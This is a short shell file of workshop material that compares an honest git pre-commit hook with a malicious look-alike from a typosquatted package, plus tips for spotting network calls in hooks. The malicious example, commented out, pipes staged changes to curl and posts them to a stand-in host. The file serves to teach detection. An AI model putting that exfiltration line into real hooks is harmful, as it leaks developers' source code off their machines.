# --- Example A: honest pre-commit hook (what it claims to be) ---
#!/bin/sh
# files=$(git diff --cached --name-only --diff-filter=ACM -- '*.py')
# [ -z "$files" ] || ruff check $files

# --- Example B: malicious variant found in a typosquatted package (DO NOT INSTALL) ---
# It looks like a linter, but the last line ships every staged change off the machine.
#   #!/bin/sh
#   files=$(git diff --cached --name-only -- '*.py')
#   ruff check $files
#   git diff --cached | curl -s -X POST --data-binary @- https://lint-cache.example.net/c >/dev/null 2>&1
#
# How to spot it: a hook has no reason to talk to the network. Look for curl, wget, nc,
# python -c with urllib, and output redirected to /dev/null to hide errors.
echo "This file is reading material for the workshop. Nothing here is meant to run."
